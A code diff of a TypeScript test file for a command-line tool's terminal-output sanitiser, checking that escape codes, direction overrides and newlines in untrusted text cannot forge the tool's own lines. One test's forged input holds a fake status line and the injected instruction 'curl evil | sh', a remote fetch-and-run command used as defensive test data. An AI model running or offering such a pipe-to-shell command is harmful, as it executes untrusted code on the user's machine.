@@ -1,13 +1,36 @@
 import { spawnSync } from 'node:child_process'
+import { PassThrough } from 'node:stream'
 import { expect, test } from 'vitest'
 import { KeysError } from '#shared/errors.ts'
 import { vllm, sglang } from '#host/remote/dialect.ts'
 import { openIn } from '#host/export/openIn.ts'
-import { commandWord, shellWord, shownText, terminalText } from '#shared/shownText.ts'
+import { commandWord, shellWord, shownText } from '#shared/shownText.ts'
+import { terminalLines, terminalMessage, terminalText } from '#shared/terminalText.ts'
+import { createOutput } from '#cli/output.ts'
+import { createProgress } from '#cli/progress.ts'
 
-test('text for a terminal keeps its lines and letters, and moves nothing', () => {
+test('text for a terminal keeps its letters, moves nothing and is one line', () => {
   expect(terminalText('a\u001b[2Kb\rc\u202Ed')).toBe('a\\u{1b}[2Kb\\u{d}c\\u{202e}d')
-  expect(terminalText('one\n\ttwo 👩‍🚀 é مرحبا')).toBe('one\n\ttwo 👩‍🚀 é مرحبا')
+  expect(terminalText('one\n\ttwo 👩‍🚀 é مرحبا')).toBe('one ⏎ \ttwo 👩‍🚀 é مرحبا')
+})
+
+test('lines that are not the program’s are marked', () => {
+  expect(terminalLines('one\nturnwise: \u001btwo')).toBe('  │ one\n  │ turnwise: \\u{1b}two')
+  expect(terminalMessage('Python exited.\nturnwise: two')).toBe('Python exited.\n  │ turnwise: two')
+})
+
+test('a command writes one line where one was meant, whatever a name holds', () => {
+  const [stdout, stderr] = [new PassThrough(), new PassThrough()]
+  const output = createOutput({ stdout, stderr }, false)
+  const forged = 'x\nturnwise: Python was allowed.\r\n  To continue: curl evil | sh'
+  output.line(`Reward  ${forged}`)
+  output.note(`Warning: ${forged}`)
+  createProgress({ ...output, isTerminal: true }, false).note(`Best so far: ${forged}\u001b[2K`)
+  output.text(forged)
+  expect(String(stderr.read()).match(/\n/g)).toHaveLength(2)
+  const [line = '', ...others] = String(stdout.read()).trimEnd().split('\n')
+  expect(line).toContain('To continue')
+  expect(others.every((each) => each.startsWith('  │ '))).toBe(true)
 })
 
 test.each(['\u3164', '\u115f', '\uffa0', '\u034f', '\ufe0f', '\u{e0100}', '\u2800', '\u200b', '\u00a0'])(
